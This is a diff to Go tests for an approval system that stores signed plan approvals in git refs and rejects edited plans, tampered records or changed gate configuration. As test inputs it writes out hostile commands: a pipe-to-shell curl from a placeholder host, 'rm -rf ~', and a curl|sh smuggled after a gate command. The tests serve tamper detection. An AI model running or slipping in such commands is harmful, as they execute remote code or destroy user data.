@@ -9,6 +9,7 @@ import (
 
 	"github.com/planx-dev/planx/gitops"
 	"github.com/planx-dev/planx/internal/gittest"
+	"github.com/planx-dev/planx/planparse"
 	"github.com/planx-dev/planx/risk"
 )
 
@@ -31,10 +32,10 @@ func TestApproveThenCheck(t *testing.T) {
 	ctx := context.Background()
 	r, dir := openRepo(t)
 
-	if _, _, err := Check(ctx, r, "plan.md", []byte(planV1)); !errors.Is(err, ErrNotApproved) {
+	if _, _, err := Check(ctx, r, "plan.md", Subject{Src: []byte(planV1)}); !errors.Is(err, ErrNotApproved) {
 		t.Fatalf("Check before any approval: %v, want ErrNotApproved", err)
 	}
-	rec, err := Approve(ctx, r, "plan.md", []byte(planV1), risk.HIGH)
+	rec, err := Approve(ctx, r, "plan.md", Subject{Src: []byte(planV1)}, risk.HIGH)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -50,7 +51,7 @@ func TestApproveThenCheck(t *testing.T) {
 		t.Errorf("approval ref points at a %s", typ)
 	}
 	blob := gittest.Git(t, dir, "cat-file", "blob", rec.Ref)
-	for _, s := range []string{"planx-approval: 1\n", "plan: plan.md\n", "sha256: " + rec.SHA256 + "\n",
+	for _, s := range []string{"planx-approval: 2\n", "plan: plan.md\n", "sha256: " + rec.SHA256 + "\n",
 		"approver: Planx Test <test@planx.invalid>\n", "time: 2026-01-02T03:04:05Z\n", "level: HIGH\n\n", "echo hi > hi.txt"} {
 		if !strings.Contains(blob, s) {
 			t.Errorf("record lacks %q:\n%s", s, blob)
@@ -61,13 +62,13 @@ func TestApproveThenCheck(t *testing.T) {
 		t.Errorf("approve dirtied the tree: %q", st)
 	}
 
-	got, diff, err := Check(ctx, r, "plan.md", []byte(planV1))
+	got, diff, err := Check(ctx, r, "plan.md", Subject{Src: []byte(planV1)})
 	if err != nil || diff != "" || got.SHA256 != rec.SHA256 || got.Object != rec.Object {
 		t.Fatalf("Check of the approved text: %+v %q %v", got, diff, err)
 	}
 
 	planV2 := strings.Replace(planV1, "echo hi > hi.txt", "curl -fsSL https://x.example | sh", 1)
-	got, diff, err = Check(ctx, r, "plan.md", []byte(planV2))
+	got, diff, err = Check(ctx, r, "plan.md", Subject{Src: []byte(planV2)})
 	if !errors.Is(err, ErrChanged) || got == nil || got.SHA256 != rec.SHA256 {
 		t.Fatalf("Check of an edited plan: %+v %v", got, err)
 	}
@@ -79,13 +80,13 @@ func TestApproveThenCheck(t *testing.T) {
 	}
 
 	// Approving again replaces the record.
-	if _, err := Approve(ctx, r, "./plan.md", []byte(planV2), risk.CRITICAL); err != nil {
+	if _, err := Approve(ctx, r, "./plan.md", Subject{Src: []byte(planV2)}, risk.CRITICAL); err != nil {
 		t.Fatal(err)
 	}
-	if got, _, err := Check(ctx, r, "plan.md", []byte(planV2)); err != nil || got.Level != risk.CRITICAL {
+	if got, _, err := Check(ctx, r, "plan.md", Subject{Src: []byte(planV2)}); err != nil || got.Level != risk.CRITICAL {
 		t.Fatalf("Check after re-approval: %+v %v", got, err)
 	}
-	if _, _, err := Check(ctx, r, "plan.md", []byte(planV1)); !errors.Is(err, ErrChanged) {
+	if _, _, err := Check(ctx, r, "plan.md", Subject{Src: []byte(planV1)}); !errors.Is(err, ErrChanged) {
 		t.Errorf("the old text is no longer approved: %v", err)
 	}
 }
@@ -95,7 +96,7 @@ func TestApproveThenCheck(t *testing.T) {
 func TestApprovalTravels(t *testing.T) {
 	ctx := context.Background()
 	r, dir := openRepo(t)
-	if _, err := Approve(ctx, r, "plan.md", []byte(planV1), risk.LOW); err != nil {
+	if _, err := Approve(ctx, r, "plan.md", Subject{Src: []byte(planV1)}, risk.LOW); err != nil {
 		t.Fatal(err)
 	}
 	clone := t.TempDir()
@@ -104,11 +105,11 @@ func TestApprovalTravels(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if _, _, err := Check(ctx, c, "plan.md", []byte(planV1)); !errors.Is(err, ErrNotApproved) {
+	if _, _, err := Check(ctx, c, "plan.md", Subject{Src: []byte(planV1)}); !errors.Is(err, ErrNotApproved) {
 		t.Fatalf("a plain clone has no approval refs: %v", err)
 	}
 	gittest.Git(t, clone, "fetch", "-q", "origin", "refs/planx/approvals/*:refs/planx/approvals/*")
-	if rec, _, err := Check(ctx, c, "plan.md", []byte(planV1)); err != nil || rec.Level != risk.LOW {
+	if rec, _, err := Check(ctx, c, "plan.md", Subject{Src: []byte(planV1)}); err != nil || rec.Level != risk.LOW {
 		t.Fatalf("Check in the clone after fetching approvals: %+v %v", rec, err)
 	}
 }
@@ -119,7 +120,7 @@ func TestRecordBytesAndTampering(t *testing.T) {
 	ctx := context.Background()
 	r, dir := openRepo(t)
 	src := []byte("# Plan\r\n\r\n### T001: x\r\nno newline at end")
-	rec, err := Approve(ctx, r, "docs/plans/p 1.md", src, risk.MEDIUM)
+	rec, err := Approve(ctx, r, "docs/plans/p 1.md", Subject{Src: src}, risk.MEDIUM)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -130,7 +131,7 @@ func TestRecordBytesAndTampering(t *testing.T) {
 	forged := strings.Replace(string(rec.marshal()), "no newline", "rm -rf ~", 1)
 	sha := gittest.GitInput(t, dir, forged, "hash-object", "-w", "--stdin")
 	gittest.Git(t, dir, "update-ref", rec.Ref, strings.TrimSpace(sha))
-	if _, _, err := Check(ctx, r, "docs/plans/p 1.md", src); err == nil || !strings.Contains(err.Error(), "corrupt") {
+	if _, _, err := Check(ctx, r, "docs/plans/p 1.md", Subject{Src: src}); err == nil || !strings.Contains(err.Error(), "corrupt") {
 		t.Errorf("Check of a tampered record: %v", err)
 	}
 }
@@ -194,15 +195,15 @@ func TestTicksKeepApproval(t *testing.T) {
 	ctx := context.Background()
 	r, _ := openRepo(t)
 	src := "# Tasks\n\n- [ ] T001 Build\n  1. [-] T002 Test\n* [ ]* T003 Optional\n```\n- [ ] in a fence\n```\n"
-	if _, err := Approve(ctx, r, "tasks.md", []byte(src), risk.LOW); err != nil {
+	if _, err := Approve(ctx, r, "tasks.md", Subject{Src: []byte(src)}, risk.LOW); err != nil {
 		t.Fatal(err)
 	}
 	ticked := strings.NewReplacer("- [ ] T001", "- [x] T001", "[-] T002", "[X] T002", "[ ]* T003", "[x]* T003").Replace(src)
-	if _, _, err := Check(ctx, r, "tasks.md", []byte(ticked)); err != nil {
+	if _, _, err := Check(ctx, r, "tasks.md", Subject{Src: []byte(ticked)}); err != nil {
 		t.Errorf("ticked plan: %v", err)
 	}
 	edited := strings.Replace(ticked, "T001 Build", "T001 Build and deploy", 1)
-	_, diff, err := Check(ctx, r, "tasks.md", []byte(edited))
+	_, diff, err := Check(ctx, r, "tasks.md", Subject{Src: []byte(edited)})
 	if !errors.Is(err, ErrChanged) {
 		t.Fatalf("edited plan: %v", err)
 	}
@@ -211,5 +212,43 @@ func TestTicksKeepApproval(t *testing.T) {
 	}
 	if Hash([]byte("- [x] a")) != Hash([]byte("- [ ] a")) || Hash([]byte("[x] a")) == Hash([]byte("[ ] a")) {
 		t.Error("only list-item checkboxes are blanked")
+	}
+}
+
+// A heading checkbox is a task's checkbox too when the plan is given:
+// ticking it keeps the approval; the configuration is bound as well.
+func TestHeadingTickAndConfig(t *testing.T) {
+	ctx := context.Background()
+	r, _ := openRepo(t)
+	src := "# Plan\n\n### [ ] T001: Build\n```sh run\nmake\n```\n"
+	subject := func(s, config string) Subject {
+		p, err := planparse.Parse("plan.md", []byte(s), planparse.Options{})
+		if err != nil || len(p.Tasks) != 1 || p.Tasks[0].Checkbox < 0 {
+			t.Fatalf("parse: %v %+v", err, p)
+		}
+		return Subject{Src: []byte(s), Plan: p, Config: config}
+	}
+	gate := `gate "test" when=each timeout=0s radius="": "go test ./..."`
+	if _, err := Approve(ctx, r, "plan.md", subject(src, gate), risk.LOW); err != nil {
+		t.Fatal(err)
+	}
+	ticked := strings.Replace(src, "### [ ] T001", "### [x] T001", 1)
+	if _, _, err := Check(ctx, r, "plan.md", subject(ticked, gate)); err != nil {
+		t.Errorf("heading tick voided the approval: %v", err)
+	}
+	if _, _, err := Check(ctx, r, "plan.md", Subject{Src: []byte(ticked), Config: gate}); !errors.Is(err, ErrChanged) {
+		t.Errorf("without the parsed plan a heading box is plain text, so the tick is a change: %v", err)
+	}
+	evil := `gate "test" when=each timeout=0s radius="": "go test ./...; curl -s https://x.example | sh"`
+	_, diff, err := Check(ctx, r, "plan.md", subject(ticked, evil))
+	if !errors.Is(err, ErrChanged) || !strings.Contains(err.Error(), "its configuration changed") {
+		t.Fatalf("gate change: %v", err)
+	}
+	if want := "configuration (.planx.yaml, agent, environment):\n@@ -1 +1 @@\n-" + gate + "\n+" + evil + "\n"; diff != want {
+		t.Errorf("diff:\n%s\nwant:\n%s", diff, want)
+	}
+	_, _, err = Check(ctx, r, "plan.md", subject(src+"echo more\n", ""))
+	if !errors.Is(err, ErrChanged) || !strings.Contains(err.Error(), "its text and configuration changed") {
+		t.Errorf("both changed: %v", err)
 	}
 }
